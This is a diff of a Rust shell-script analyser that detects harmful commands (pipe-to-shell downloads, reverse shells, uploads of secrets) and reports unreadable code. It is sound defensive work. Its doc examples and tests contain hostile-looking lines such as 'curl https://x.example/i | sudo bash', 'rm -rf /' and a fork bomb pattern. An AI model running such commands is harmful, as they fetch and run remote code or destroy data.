@@ -1,18 +1,47 @@
-//! Finds harmful shell commands: those that run downloaded code, delete files, open remote access, or send files away.
+//! Reads shell scripts: which commands they run, which of these are harmful, and what cannot be read.
 //!
-//! Commands are parsed with their quotes, pipes and substitutions, so `echo "rm -rf /"` is text and `'rm' -rf /` is a
-//! command. Not detected: a command assembled from variables, a here-document that a shell runs, and code in another
-//! language. Policies call it by the function `semgrep`, and [`python`](super::python) for the commands in notebooks.
+//! Scripts are parsed as bash parses them, with quotes, here-documents, substitutions, functions and compound commands, so
+//! `echo "rm -rf /"` is text and `'rm' -rf /` is a command. What is run inside is followed:
+//!
+//! | followed | reported as not read |
+//! |---|---|
+//! | lists, pipelines, groups, subshells, `if`, `case`, loops, functions, `[[ … ]]`, arithmetic | text that is not valid, `coproc`, `${ …; }` |
+//! | `$(…)`, `` `…` ``, `<(…)`, `>(…)`, in here-documents too | a name of a command that is computed: `$x`, `r?`, `{a,b}` |
+//! | variables with a literal value, in code that runs in order | values from elsewhere, and after `eval`, `read`, `export` and similar |
+//! | `eval`, `trap`, `bash -c`, `sh <<EOF`, `echo … \| sh`, with a known script | the same with a computed script; `\| sh`, `source <(…)`, aliases |
+//! | `sudo`, `env`, `timeout`, `nice`, `nohup`, `exec` and other wrappers | their options that are not known |
+//! | `xargs`, `find -exec`, `watch`, `ssh`, `docker exec`, `su -c`, `uv run`, `git bisect run` | `parallel`, `tmux`, `strace` and others, and options of `git`, `tar` or `rsync` that name programs |
+//! | `sed` and `awk` programs that certainly run nothing | code in other languages: `python -c` |
+//! | `EDITOR`, `GIT_PAGER` and similar variables | `BASH_ENV`, `LD_PRELOAD`, `PATH` with a foreign folder |
+//! | | scripts in files, and what exceeds a limit |
+//!
+//! Not noticed: a program that runs others by options or input that this list lacks, what a file contains that the text
+//! runs by its path, and values that arithmetic evaluates and that are not literal. The crate's `tests/shell_oracle.rs`
+//! compares this module with bash. Policies call it by the functions `semgrep` and `shell_code`, and
+//! [`python`](super::python) calls it for the commands in notebooks.
 
 mod effective_command;
+mod environment;
+mod expansion;
+mod foreign;
+mod here_document;
+mod launches;
+mod lexer;
+mod limits;
+mod parser;
+mod remote;
+mod scanner;
+mod shells;
 mod syntax;
+mod wrappers;
 
-use std::collections::BTreeSet;
 use std::ops::Range;
 
 use super::MAX_FINDINGS;
-use effective_command::{EffectiveCommand, INTERPRETERS, READERS, SHELLS};
-use syntax::{Pipeline, ShellCommand, Word};
+use launches::CommandInput;
+use lexer::ScriptLocation;
+use limits::MAX_BYTES;
+use scanner::CommandScanner;
 
 /// The severity of a command.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
@@ -44,156 +73,158 @@ pub struct UnsafeCommand {
     pub severity: IssueSeverity,
 }
 
-/// Substitutions and `bash -c` are followed to this depth.
-const MAX_DEPTH: usize = 6;
+/// The kinds with which [`find`] reports what cannot be read.
+const UNREAD_KINDS: &[&str] = &["UNREADABLE", "UNKNOWN_COMMAND", "OTHER_CODE"];
 
-/// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`].
+/// Why a part of a text cannot be read.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+#[non_exhaustive]
+pub enum UnreadReason {
+    /// It exceeds a limit on length, depth or number.
+    Limit,
+    /// It is no valid script, or shells disagree about it.
+    Syntax,
+    /// The name of a command is computed.
+    Name,
+    /// A script is computed, or comes from a pipe.
+    Script,
+    /// A program runs what options name that are not known, or in a way that is not followed.
+    Arguments,
+    /// A variable changes what later commands run.
+    Environment,
+    /// The code is in another language.
+    Language,
+    /// The script is in a file.
+    File,
+    /// A shell or an interpreter reads the standard input of the whole script.
+    Input,
+}
+
+impl UnreadReason {
+    /// Returns the name of the reason, such as `limit`.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::Limit => "limit",
+            Self::Syntax => "syntax",
+            Self::Name => "name",
+            Self::Script => "script",
+            Self::Arguments => "arguments",
+            Self::Environment => "environment",
+            Self::Language => "language",
+            Self::File => "file",
+            Self::Input => "input",
+        }
+    }
+
+    /// Returns the kind and the severity with which [`find`] reports it. `None` for code that is elsewhere, as is that
+    /// of every program.
+    fn issue(self) -> Option<(&'static str, IssueSeverity)> {
+        match self {
+            Self::Limit | Self::Syntax | Self::Script | Self::Arguments | Self::Environment => {
+                Some(("UNREADABLE", IssueSeverity::Error))
+            }
+            Self::Name => Some(("UNKNOWN_COMMAND", IssueSeverity::Error)),
+            Self::Language => Some(("OTHER_CODE", IssueSeverity::Warning)),
+            Self::File | Self::Input => None,
+        }
+    }
+}
+
+/// A part of a text that cannot be read: it can run any command.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct UnreadPart {
+    /// The reason.
+    pub reason: UnreadReason,
+    /// The bytes of the part, or of the command that runs it.
+    pub span: Range<usize>,
+}
+
+/// A command that a script runs.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Invocation {
+    /// The name as written, with its folder: `rm`, `./run.sh`.
+    pub name: String,
+    /// The arguments without quotes. A wrapper such as `sudo` has none: its command is the next invocation.
+    pub arguments: Vec<String>,
+    /// Whether an argument is computed, so that it is not what the command receives.
+    pub computed: bool,
+    /// The bytes of the command with its wrappers.
+    pub span: Range<usize>,
+}
+
+/// The content of a script.
+///
+/// A policy that permits certain commands must also check that nothing is [`unread`](Self::unread).
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct ShellCode {
+    /// The commands that it may run, builtins included, in about the order of the text. A call of a function that the
+    /// script certainly defines before is omitted, since the function's commands are present.
+    pub commands: Vec<Invocation>,
+    /// What cannot be read.
+    pub unread: Vec<UnreadPart>,
+    /// The unsafe commands, as [`find`] returns them.
+    pub issues: Vec<UnsafeCommand>,
+}
+
+/// Returns the unsafe commands of a script, in order, without duplicates; at most [`MAX_FINDINGS`]. What cannot be read
+/// counts as unsafe: `UNREADABLE`, `UNKNOWN_COMMAND`, `OTHER_CODE`. If there are more findings than are returned, one of
+/// these says so.
 ///
 /// ```
 /// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
 /// assert_eq!((issues[0].kind, issues[0].span.start), ("PIPE_TO_SHELL", 11));
 /// ```
 pub fn find(text: &str) -> Vec<UnsafeCommand> {
-    let mut finder = CommandScanner::default();
+    shell_code(text).issues
+}
+
+/// Returns the commands of a script, what of it cannot be read, and its unsafe commands. Takes time linear in the text.
+///
+/// ```
+/// let code = flowgate_detect::shell::shell_code("for f in *.rs; do sudo -u ann wc \"$f\"; done | $PAGER");
+/// let names: Vec<_> = code.commands.iter().map(|command| command.name.as_str()).collect();
+/// assert_eq!(names, ["sudo", "wc"]);
+/// assert_eq!(code.unread[0].reason.as_str(), "name");
+/// ```
+pub fn shell_code(text: &str) -> ShellCode {
+    let mut scanner = CommandScanner::new();
+    let mut end = text.len().min(MAX_BYTES);
+    while !text.is_char_boundary(end) {
+        end -= 1;
+    }
+    let read = text.get(..end).unwrap_or_default();
     // The script is the whole text, so it begins at byte 0, and no script encloses it.
-    finder.scan_script(text, &ScriptLocation::From(0), 0);
-    // The fork bomb defines a function named `:`, which the parser does not read as a command.
-    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
+    scanner.scan_text(read, &ScriptLocation::From(0), &CommandInput::Terminal);
+    if end < text.len() {
+        scanner.note_unread(UnreadReason::Limit, end..text.len(), false);
+    }
+    // The fork bomb is a function that calls itself, which is harmful whatever it is named.
+    let squeezed: String = read.chars().filter(|c| !c.is_whitespace()).collect();
     if squeezed.contains(":(){:|:&};:") {
         // An estimate: the white space is lost, and with it the exact position.
         let start = text.find(':').unwrap_or(0);
-        finder.issues.push(UnsafeCommand {
+        scanner.issues.push(UnsafeCommand {
             kind: "FORK_BOMB",
             span: start..text.len(),
             severity: IssueSeverity::Error,
         });
     }
-    let mut issues = finder.issues;
-    issues.sort_by_key(|issue| (issue.span.start, issue.span.end));
+    let CommandScanner { commands, unread, mut issues, .. } = scanner;
+    let order = |issue: &UnsafeCommand| (issue.span.start, issue.span.end);
+    issues.sort_by_key(order);
     issues.dedup();
-    issues.truncate(MAX_FINDINGS);
-    issues
-}
-
-/// The location of a script in the whole text.
-#[derive(Clone)]
-enum ScriptLocation {
-    /// From this byte on.
-    From(usize),
-    /// Somewhere within these bytes: the quotes around it were removed, so positions in it do not correspond to the
-    /// text.
-    Within(Range<usize>),
-}
-
-impl ScriptLocation {
-    /// Returns the bytes of the whole text that correspond to a range of the script, or that contain the whole script
-    /// if positions in it correspond to none.
-    fn locate(&self, range: Range<usize>) -> Range<usize> {
-        match self {
-            Self::From(offset) => range.start + offset..range.end + offset,
-            Self::Within(whole) => whole.clone(),
-        }
+    if issues.len() > MAX_FINDINGS {
+        // Errors come before warnings, and before both that the list is not complete.
+        issues.sort_by_key(|issue| std::cmp::Reverse((issue.kind == "UNREADABLE", issue.severity)));
+        issues.truncate(MAX_FINDINGS - 1);
+        issues.push(UnsafeCommand {
+            kind: "UNREADABLE",
+            span: 0..text.len(),
+            severity: IssueSeverity::Error,
+        });
+        issues.sort_by_key(order);
     }
-}
-
-/// Collects the unsafe commands of a script.
-#[derive(Default)]
-struct CommandScanner {
-    issues: Vec<UnsafeCommand>,
-    /// The names of the files into which earlier commands downloaded.
-    fetched: BTreeSet<String>,
-}
-
-impl CommandScanner {
-    /// Reports the unsafe commands of a script: commands that are unsafe alone, and combinations in a pipeline, such as
-    /// a download that a shell executes. Scans nested scripts recursively (substitutions, and arguments that a shell
-    /// executes). `location` maps spans of `text` to the whole text, and `depth` counts the enclosing scripts.
-    fn scan_script(&mut self, text: &str, location: &ScriptLocation, depth: usize) {
-        for pipeline in syntax::read(text) {
-            // More than are returned, since duplicates are removed later.
-            if self.issues.len() > 2 * MAX_FINDINGS {
-                return;
-            }
-            let mut report = |kind, span, severity| {
-                self.issues.push(UnsafeCommand { kind, span: location.locate(span), severity });
-            };
-            let calls: Vec<EffectiveCommand<'_>> = pipeline.iter().map(EffectiveCommand::new).collect();
-            // The scripts in the substitutions of a word.
-            let substituted_scripts = |word: &Word| -> String {
-                word.inner.iter().filter_map(|range| text.get(range.clone())).collect::<Vec<_>>().join("\n")
-            };
-            for (i, call) in calls.iter().enumerate() {
-                call.report_effects(&mut |kind, severity| report(kind, call.command.span(), severity));
-                let earlier = calls.get(..i).unwrap_or_default();
-                let whole = || pipeline_span(&pipeline);
-                if call.reads_script() {
-                    if earlier.iter().any(EffectiveCommand::fetches) {
-                        report("PIPE_TO_SHELL", whole(), IssueSeverity::Error);
-                    }
-                    if earlier.iter().any(EffectiveCommand::decodes) {
-                        report("DECODE_TO_SHELL", whole(), IssueSeverity::Error);
-                    }
-                }
-                if call.connects() {
-                    if earlier.iter().any(|call| call.is_one_of(SHELLS) && call.has_argument("-i")) {
-                        report("REVERSE_SHELL", whole(), IssueSeverity::Error);
-                    }
-                    if earlier.iter().any(|call| {
-                        call.reads_sensitive() || call.is_one_of(&["tar", "zip"]) || call.dumps_environment()
-                    }) {
-                        report("UPLOAD", whole(), IssueSeverity::Error);
-                    }
-                }
-                let substitutions: String =
-                    call.words().map(&substituted_scripts).collect::<Vec<_>>().join("\n");
-                // The commands in the substitutions of the arguments.
-                let nested: Vec<Pipeline> =
-                    if substitutions.is_empty() { Vec::new() } else { syntax::read(&substitutions) };
-                let nested = || nested.iter().flatten().map(EffectiveCommand::new);
-                let runs = call.is_one_of(INTERPRETERS) || call.is_one_of(&["source", "."]);
-                if runs
-                    && (nested().any(|inner| inner.fetches())
-                        || call.words().any(|w| self.fetched.contains(&w.text)))
-                {
-                    report("PIPE_TO_SHELL", call.command.span(), IssueSeverity::Error);
-                }
-                if call.fetches()
-                    && nested().any(|inner| inner.is_one_of(READERS) || inner.dumps_environment())
-                {
-                    report("UPLOAD", call.command.span(), IssueSeverity::Error);
-                }
-            }
-            // The files into which a command downloads; a later command may run one of them.
-            for call in calls.iter().filter(|call| call.fetches()) {
-                let redirected = call.command.redirects.iter().filter(|(op, _)| op.starts_with('>'));
-                self.fetched.extend(redirected.map(|(_, word)| word.text.clone()));
-                self.fetched
-                    .extend(["-o", "-O", "--output"].iter().filter_map(|option| call.option_value(option)));
-            }
-            if depth < MAX_DEPTH {
-                for call in &calls {
-                    for range in call.every_word().flat_map(|word| &word.inner) {
-                        let at = match location {
-                            ScriptLocation::From(offset) => ScriptLocation::From(offset + range.start),
-                            // The script is an argument whose offsets are not those of the text, so all of its parts
-                            // have the span of the argument.
-                            within => within.clone(),
-                        };
-                        self.scan_script(text.get(range.clone()).unwrap_or_default(), &at, depth + 1);
-                    }
-                    if let Some((script, span)) = call.inner_script() {
-                        self.scan_script(&script, &ScriptLocation::Within(location.locate(span)), depth + 1);
-                    }
-                }
-            }
-        }
-    }
-}
-
-/// Returns the bytes from the first to the last command of a pipeline.
-fn pipeline_span(pipeline: &[ShellCommand]) -> Range<usize> {
-    let first = pipeline.first().map_or(0, |command| command.span().start);
-    first..pipeline.last().map_or(first, |command| command.span().end)
+    ShellCode { commands, unread, issues }
 }
 
 #[cfg(test)]
@@ -239,6 +270,7 @@ mod tests {
     #[test]
     fn depth_is_bounded() {
         let deep = format!("{}rm -rf /{}", "$(".repeat(5000), ")".repeat(5000));
-        assert!(find(&deep).is_empty());
+        let kinds: Vec<_> = find(&deep).iter().map(|issue| issue.kind).collect();
+        assert_eq!(kinds, ["UNREADABLE"]);
     }
 }
